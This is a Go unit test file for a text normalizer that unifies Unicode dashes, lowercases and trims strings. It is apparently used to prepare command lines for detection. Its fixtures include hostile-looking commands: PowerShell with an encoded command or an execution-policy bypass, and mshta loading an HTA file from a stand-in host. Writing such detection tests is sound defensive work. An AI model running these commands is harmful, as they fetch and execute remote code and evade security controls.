package normalize

import "testing"

func TestTextUnifiesDashes(t *testing.T) {
	cases := map[string]string{
		"powershell \u2013NoProfile": "powershell -noprofile",
		"powershell \u2014enc AAA":   "powershell -enc aaa",
		"cmd \u2011c":                "cmd -c",
		"Plain Text":                 "plain text",
		"":                           "",
		"already-normal --flag":      "already-normal --flag",
	}

	for input, expected := range cases {
		got := Text(input)
		if got != expected {
			t.Fatalf("Text(%q) expected %q, got %q", input, expected, got)
		}
	}
}

func TestTextIdempotent(t *testing.T) {
	inputs := []string{
		"PowerShell \u2013ExecutionPolicy Bypass",
		"MSHTA.EXE http://x.test/a.hta",
		"\u2014\u2013\u2011",
		"ÀÉÎ mixed Case",
		"verification #id",
	}

	for _, input := range inputs {
		once := Text(input)
		twice := Text(once)
		if once != twice {
			t.Fatalf("Text not idempotent for %q: %q != %q", input, once, twice)
		}
	}
}

func TestApplyKeepsRaw(t *testing.T) {
	res := Apply("  CMD \u2013c  ", Options{UnifyDashes: true, Lowercase: true, TrimSpace: true})
	if res.Raw != "  CMD \u2013c  " {
		t.Fatalf("expected raw preserved, got %q", res.Raw)
	}
	if res.Normalized != "cmd -c" {
		t.Fatalf("expected normalized %q, got %q", "cmd -c", res.Normalized)
	}

	res = Apply("ABC\u2013", Options{})
	if res.Normalized != "ABC\u2013" {
		t.Fatalf("expected no-op with empty options, got %q", res.Normalized)
	}
}
